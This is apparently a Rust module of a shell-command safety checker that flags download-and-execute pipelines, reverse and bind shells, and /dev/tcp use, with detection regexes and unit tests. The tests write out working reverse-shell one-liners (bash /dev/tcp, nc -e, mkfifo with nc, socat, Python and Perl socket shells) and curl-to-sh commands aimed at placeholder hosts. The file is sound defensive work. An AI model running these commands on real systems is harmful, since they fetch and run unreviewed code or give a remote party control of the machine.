//! Network rules: running downloaded code and reverse or bind shells.
//!
//! Why this exists: `curl | sh` and its disguises (`bash <(curl ..)`,
//! `sh -c "$(wget -qO- ..)"`, `eval "$(curl ..)"`) run code nobody has read,
//! and reverse shells (`nc -e`, `bash -i >& /dev/tcp/..`, python socket +
//! dup2) hand the machine to someone else. These rules follow pipes and
//! substitutions to see where downloaded bytes end up, so `curl x | jq` or
//! `curl -o file x` stay quiet.

use crate::safety::parse::Word;
use crate::safety::programs::{is_downloader, is_interpreter, is_shell};
use crate::safety::rules::kit::{Cx, Out};
use crate::safety::types::rule;
use crate::safety::types::Risk::*;
use crate::safety::types::Rule;
use crate::safety::unwrapped::reads_program_from_stdin;
use crate::safety::unwrapped::Cmd;
use regex::Regex;
use std::sync::OnceLock;

const CAT: &str = "network";

pub(crate) const DOWNLOAD_EXEC: Rule = rule(
    "net.download_exec",
    Critical,
    CAT,
    "downloads a script and runs it without showing it to you",
);
pub(crate) const REVERSE_SHELL: Rule = rule(
    "net.reverse_shell",
    Critical,
    CAT,
    "opens a shell that another machine can control over the network (reverse or bind shell)",
);
pub(crate) const SCRIPT_SOCKET_SHELL: Rule = rule("net.script_socket_shell", Critical, CAT, "runs a script that connects a shell to a network socket, handing control of this machine to someone else");
pub(crate) const DEV_TCP: Rule = rule(
    "net.dev_tcp",
    Moderate,
    CAT,
    "opens a raw network connection through /dev/tcp",
);
pub(crate) const LISTEN_EXEC: Rule = rule(
    "net.listen_exec",
    Critical,
    CAT,
    "runs whatever arrives on a network port as commands",
);

pub(crate) const RULES: &[Rule] = &[
    DOWNLOAD_EXEC,
    REVERSE_SHELL,
    SCRIPT_SOCKET_SHELL,
    DEV_TCP,
    LISTEN_EXEC,
];

fn socket_script() -> &'static Regex {
    static R: OnceLock<Regex> = OnceLock::new();
    R.get_or_init(|| {
        Regex::new(
            r"(?i)socket|TCPSocket|fsockopen|net\.connect|new\s+net\.Socket|IO::Socket|/dev/tcp",
        )
        .unwrap()
    })
}

fn shell_spawn() -> &'static Regex {
    static R: OnceLock<Regex> = OnceLock::new();
    R.get_or_init(|| Regex::new(r#"(?i)dup2|pty\.spawn|subprocess|/bin/(ba|z|da)?sh|exec\s*\(|system\s*\(|popen|child_process|spawn\s*\(|cmd\.exe|\bsh\b["']?\s*-i"#).unwrap())
}

/// Whether script code connects a shell to a network socket.
pub(crate) fn is_socket_shell(code: &str) -> bool {
    socket_script().is_match(code) && shell_spawn().is_match(code)
}

fn is_netcat(name: &str) -> bool {
    matches!(
        name,
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd"
    )
}

fn is_dev_net(t: &str) -> bool {
    t.contains("/dev/tcp/") || t.contains("/dev/udp/")
}

/// Whether a word's value is produced by a download (`$(curl ..)`, `<(wget ..)`).
fn word_is_download(cx: &Cx, w: &Word) -> bool {
    cx.sub_cmds(w).any(|c| is_downloader(&c.name))
}

/// Variables of the line assigned a download (`x=$(curl -s URL)`).
fn downloaded_vars(cx: &Cx) -> Vec<String> {
    let mut v = Vec::new();
    for sc in &cx.script.commands {
        for w in sc
            .words
            .iter()
            .filter(|w| crate::safety::programs::is_assignment(w))
        {
            if word_is_download(cx, w)
                || w.subs
                    .iter()
                    .any(|s| cx.cmds_in(s.cmds.clone()).any(|c| is_downloader(&c.name)))
            {
                if let Some((name, _)) = w.text.split_once('=') {
                    v.push(name.trim_end_matches('+').to_string());
                }
            }
        }
    }
    v
}

/// Whether a word expands one of `vars` (`$x`, `"${x}"`).
fn uses_var(w: &Word, vars: &[String]) -> bool {
    w.dynamic
        && vars.iter().any(|n| {
            w.text.contains(&format!("${{{n}}}"))
                || w.text.match_indices(&format!("${n}")).any(|(i, m)| {
                    !w.text[i + m.len()..]
                        .starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
                })
        })
}

pub(crate) fn check(c: &Cmd, cx: &Cx, out: &mut Out) {
    let name = c.name.as_str();
    // `bash <(curl ..)`, `sh -c "$(curl ..)"`, `eval "$(wget ..)"`, `. <(curl ..)`.
    if is_interpreter(name) || matches!(name, "eval" | "source" | ".") {
        for w in &c.args {
            if word_is_download(cx, w) {
                out.add(&DOWNLOAD_EXEC, c.span.clone());
            }
        }
    }
    // `x=$(curl URL); eval "$x"` or `$x`: the download, run by way of a variable.
    let runs_words = is_interpreter(name) || matches!(name, "eval" | "source" | ".");
    if (runs_words && c.args.iter().any(|w| w.dynamic)) || c.prog.dynamic {
        let vars = downloaded_vars(cx);
        if !vars.is_empty()
            && (uses_var(&c.prog, &vars) || runs_words && c.args.iter().any(|w| uses_var(w, &vars)))
        {
            out.add(&DOWNLOAD_EXEC, c.span.clone());
        }
    }
    if is_netcat(name) {
        let exec = c.args.iter().any(|w| {
            let t = w.text.as_str();
            t == "-e"
                || t == "-c"
                || t == "--exec"
                || t == "--sh-exec"
                || t == "--lua-exec"
                || (t.starts_with('-')
                    && !t.starts_with("--")
                    && t.len() > 2
                    && t.ends_with('e')
                    && !t.contains('w'))
        });
        if exec {
            out.add(&REVERSE_SHELL, c.span.clone());
        }
    }
    if name == "socat" {
        let lower: Vec<String> = c.arg_texts().map(|t| t.to_ascii_lowercase()).collect();
        let shell = lower.iter().any(|t| {
            (t.starts_with("exec:") || t.starts_with("system:"))
                && (t.contains("sh") || t.contains("cmd"))
        });
        let net = lower.iter().any(|t| {
            t.starts_with("tcp")
                || t.starts_with("udp")
                || t.starts_with("ssl")
                || t.starts_with("openssl")
        });
        if shell && net {
            out.add(&REVERSE_SHELL, c.span.clone());
        }
    }
    if is_interpreter(name)
        && !is_shell(name)
        && c.args
            .iter()
            .any(|w| socket_script().is_match(&w.text) && shell_spawn().is_match(&w.text))
    {
        out.add(&SCRIPT_SOCKET_SHELL, c.span.clone());
    }
}

/// Pipelines (`curl | sh`, `nc -l | sh`, `sh -i | nc`) and `/dev/tcp`.
pub(crate) fn check_script(cx: &Cx, out: &mut Out) {
    let s = cx.script;
    let mut devtcp_spans = Vec::new();
    let mut interactive_shell = false;
    for (idx, sc) in s.commands.iter().enumerate() {
        for r in &sc.redirects {
            if is_dev_net(&r.target.text) {
                devtcp_spans.push(r.span.clone());
            }
        }
        for c in &cx.unwrapped[idx].cmds {
            if is_shell(&c.name)
                && (c.arg_texts().any(|t| {
                    t == "-i" || (t.starts_with('-') && !t.starts_with("--") && t.contains('i'))
                }) || c.args.is_empty())
            {
                interactive_shell = true;
            }
            if c.name == "exec" || is_shell(&c.name) {
                interactive_shell |=
                    sc.redirects.iter().any(|r| is_dev_net(&r.target.text)) && is_shell(&c.name);
            }
            // `while read line; do $line; done` on a socket: its lines are run.
            interactive_shell |= crate::safety::rules::kit::is_computed(&c.prog);
        }
    }
    if !devtcp_spans.is_empty() {
        let rule = if interactive_shell {
            &REVERSE_SHELL
        } else {
            &DEV_TCP
        };
        for sp in devtcp_spans {
            out.add(rule, sp);
        }
    }
    for p in &s.pipelines {
        let mut download = false;
        let mut netcat_listen = false;
        let mut netcat = false;
        let mut shell_seen = false;
        for &i in p {
            for c in &cx.unwrapped[i].cmds {
                if download && reads_program_from_stdin(c) {
                    out.add(&DOWNLOAD_EXEC, s.commands[i].span.clone());
                }
                if netcat_listen && reads_program_from_stdin(c) {
                    out.add(&LISTEN_EXEC, s.commands[i].span.clone());
                }
                let is_nc = is_netcat(&c.name)
                    || c.name == "telnet"
                    || (c.name == "openssl" && c.sub(0) == Some("s_client"));
                // `nc host port | sh` or `sh -i | nc host port`.
                if (netcat && is_shell(&c.name) && reads_program_from_stdin(c))
                    || (shell_seen && is_nc)
                {
                    out.add(&REVERSE_SHELL, s.commands[i].span.clone());
                }
                if is_downloader(&c.name) {
                    download = true;
                }
                if is_nc {
                    netcat = true;
                    if c.arg_texts().any(|t| {
                        t == "-l"
                            || t == "--listen"
                            || (t.starts_with('-') && !t.starts_with("--") && t.contains('l'))
                    }) {
                        netcat_listen = true;
                    }
                }
                if is_shell(&c.name) && reads_program_from_stdin(c) {
                    shell_seen = true;
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::safety::tests::{assert_flags, assert_not_flags};

    #[test]
    fn download_exec() {
        assert_flags("curl -fsSL https://x.sh | sh", "net.download_exec");
        assert_flags("curl x | sudo bash", "net.download_exec");
        assert_flags("wget -qO- http://x | bash -s -- --yes", "net.download_exec");
        assert_flags("bash <(curl -s http://x)", "net.download_exec");
        assert_flags("sh -c \"$(wget -qO- http://x)\"", "net.download_exec");
        assert_flags("eval \"$(curl -s http://x)\"", "net.download_exec");
        assert_flags("source <(curl -s http://x)", "net.download_exec");
        assert_flags("curl http://x | python3 -", "net.download_exec");
        assert_not_flags("curl -s http://x | jq .", "net.download_exec");
        assert_not_flags(
            "curl -s http://x | python3 -m json.tool",
            "net.download_exec",
        );
        assert_not_flags("curl -o install.sh http://x", "net.download_exec");
        assert_not_flags(
            "bash -c \"echo $(curl -s ifconfig.me)\"",
            "net.download_exec",
        );
        assert_not_flags("echo 'curl x | sh'", "net.download_exec");
    }

    #[test]
    fn download_exec_through_a_variable() {
        assert_flags("x=$(curl -s http://x); eval \"$x\"", "net.download_exec");
        assert_flags("c=`wget -qO- http://x`; $c", "net.download_exec");
        assert_not_flags(
            "v=$(curl -s http://x/version); echo \"$v\"",
            "net.download_exec",
        );
    }

    #[test]
    fn reverse_shell() {
        assert_flags("nc -e /bin/sh 1.2.3.4 4444", "net.reverse_shell");
        assert_flags(
            "exec 5<>/dev/tcp/1.2.3.4/80; cat <&5 | while read l; do $l 2>&5 >&5; done",
            "net.reverse_shell",
        );
        assert_flags("ncat --exec /bin/bash 1.2.3.4 4444", "net.reverse_shell");
        assert_flags("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "net.reverse_shell");
        assert_flags(
            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 1.2.3.4 4444 > /tmp/f",
            "net.reverse_shell",
        );
        assert_flags(
            "socat tcp-connect:1.2.3.4:4444 exec:/bin/sh,pty",
            "net.reverse_shell",
        );
        assert_not_flags("nc -zv host 22", "net.reverse_shell");
        assert_not_flags("nc -l 8080 > file", "net.reverse_shell");
        assert_not_flags("echo hi | nc host 80", "net.reverse_shell");
    }

    #[test]
    fn script_socket_shell() {
        assert_flags(
            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"1.2.3.4\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
            "net.script_socket_shell",
        );
        assert_flags(
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");'",
            "net.script_socket_shell",
        );
        assert_not_flags(
            "python3 -c 'import socket; print(socket.gethostname())'",
            "net.script_socket_shell",
        );
    }

    #[test]
    fn dev_tcp() {
        assert_flags("echo > /dev/tcp/example.com/80", "net.dev_tcp");
        assert_not_flags("echo hi > /tmp/tcp", "net.dev_tcp");
    }

    #[test]
    fn listen_exec() {
        assert_flags("nc -l 4444 | sh", "net.listen_exec");
        assert_not_flags("nc -l 4444 > out.txt", "net.listen_exec");
    }
}
